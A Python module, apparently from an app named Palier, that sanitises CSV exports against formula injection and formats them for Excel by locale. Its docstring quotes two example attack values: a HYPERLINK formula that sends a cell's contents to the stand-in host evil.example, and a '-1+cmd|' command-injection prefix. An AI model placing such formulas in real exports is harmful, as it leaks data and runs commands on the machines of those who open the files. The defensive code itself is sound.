"""Every CSV Palier writes goes through here, so a spreadsheet never runs what a user typed.

Names, comments and evidence are user text, and a manager opens the export in a
spreadsheet: a cell such as ``=HYPERLINK("https://evil.example/?"&B2, "…")`` would be
a live formula there (CSV or formula injection). The OWASP rule applies to every
cell: one that begins with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return
(or their full-width forms, which some spreadsheets read the same) is prefixed with a
single quote, which spreadsheets show as text.

A plain number is data, not a formula: ``-1`` or ``+2`` (a gap, a trend) is written
as it is so that it stays a number in the spreadsheet; anything else starting with
a sign — ``-1+cmd|…`` included — is prefixed.

Rows: fields with the separator, a quote, a carriage return or a line feed are quoted.
Python's ``csv`` module quotes a field only for the characters of its line
terminator, so the terminator is RFC 4180's CRLF: a lone CR in evidence then stays
inside its quoted field instead of starting a new row.

Opened by a double click in Excel (:func:`excel_csv`): Excel reads a CSV in the
system's code page unless it starts with a UTF-8 byte order mark (« Évaluée » would show
as « Ã‰valuÃ©e »), and splits it on the list separator of the system's region — a
semicolon in France, where the comma is the decimal mark — so a CSV for a French reader
has a BOM and ``;``, one for an English reader a BOM and ``,``. Dates are written
``YYYY-MM-DD HH:MM``, which Excel reads as a date in every region.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from datetime import date, datetime

from bot.domain.sheets import Cell, Table

TRIGGERS = frozenset("=+-@\t\r＝＋－＠")
NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?")
LINE_END = "\r\n"
BOM = "\ufeff"  # UTF-8's byte order mark: how Excel knows the file is UTF-8
SEPARATORS = {"fr": ";", "en": ","}  # the list separator of each language's regions
DECIMAL_MARKS = {"fr": ",", "en": "."}


def safe_cell(value: object) -> str:
    """``value`` as a cell a spreadsheet shows as text, never evaluates."""
    text = "" if value is None else str(value)
    if text and text[0] in TRIGGERS and not NUMBER.fullmatch(text):
        return "'" + text
    return text


def csv_text(
    header: Sequence[str], rows: Iterable[Sequence[object]], *, separator: str = ","
) -> str:
    """The CSV document: ``header`` then ``rows``, every cell neutralised and quoted as needed."""
    out = io.StringIO()
    writer = csv.writer(
        out, delimiter=separator, lineterminator=LINE_END, quoting=csv.QUOTE_MINIMAL
    )
    writer.writerow([safe_cell(cell) for cell in header])
    writer.writerows([safe_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


def _language(locale: str) -> str:
    """``fr-FR`` → ``fr``: what Excel expects follows the language here."""
    return locale.replace("_", "-").split("-")[0].lower()


def separator(locale: str) -> str:
    """The separator Excel expects from a reader of ``locale`` (``;`` in French)."""
    return SEPARATORS.get(_language(locale), ",")


def _spelt(cell: Cell, locale: str) -> object:
    """A typed cell as Excel reads it in ``locale``'s regions (text goes to safe_cell)."""
    if isinstance(cell, datetime):
        return cell.strftime("%Y-%m-%d %H:%M")
    if isinstance(cell, date):
        return cell.isoformat()
    if isinstance(cell, float):
        return repr(cell).replace(".", DECIMAL_MARKS.get(_language(locale), "."))
    return cell


def excel_csv(table: Table, locale: str) -> str:
    """``table`` as a CSV a reader of ``locale`` opens in Excel with a double click: a
    BOM, their separator, the header in their words, every cell safe."""
    rows = ([_spelt(cell, locale) for cell in row] for row in table.rows)
    return BOM + csv_text(table.header, rows, separator=separator(locale))


def data_rows(text: str, separator: str = ",") -> int:
    """How many rows under the header ``text`` holds, reading quoted line breaks as data
    (with or without a BOM; ``separator``: the one it was written with, which says where a
    quoted field may begin)."""
    rows = csv.reader(io.StringIO(text.removeprefix(BOM), newline=""), delimiter=separator)
    return max(len(list(rows)) - 1, 0)
